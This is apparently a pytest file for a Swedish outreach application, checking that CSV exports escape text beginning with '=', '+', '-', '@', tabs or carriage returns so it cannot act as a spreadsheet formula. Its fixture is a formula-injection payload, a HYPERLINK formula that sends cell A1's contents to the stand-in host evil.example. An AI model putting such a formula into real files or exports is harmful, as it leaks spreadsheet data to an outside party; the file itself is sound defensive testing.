"""Exported text cannot become a spreadsheet formula: one escape, used by every export."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from storage.export_safety import safe_cell
from storage.outreach import add_source
from tests.outreach_helpers import person
from tests.staff_web import login

pytestmark = pytest.mark.storage  # on SQLite and PostgreSQL alike

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.mark.parametrize(("value", "shown"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+46701234567", "'+46701234567"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Sfi Kista", "Sfi Kista"),
    ("", ""),
    (-3, -3),
    (0.5, 0.5),
    (None, None),
    (date(2026, 1, 2), date(2026, 1, 2)),
])
def test_text_that_would_start_a_formula_is_escaped_and_numbers_stay_numbers(value, shown):
    assert safe_cell(value) == shown


async def test_a_source_named_like_a_formula_is_plain_text_in_the_funnel_csv(services, client):
    now = services.clock.now()
    async with services.db.transaction() as session:
        source = await add_source(session, "annat", HYPERLINK, None, "evil", "EVIL", now)
        await person(session, now, "anna", source_id=source.id)
    await login(client, "analyst")
    response = await client.get("/staff/reports/funnel.csv?by=source")
    assert response.status == 200
    text = (await response.text()).removeprefix("\ufeff")  # Swedish CSV: BOM and ';'
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
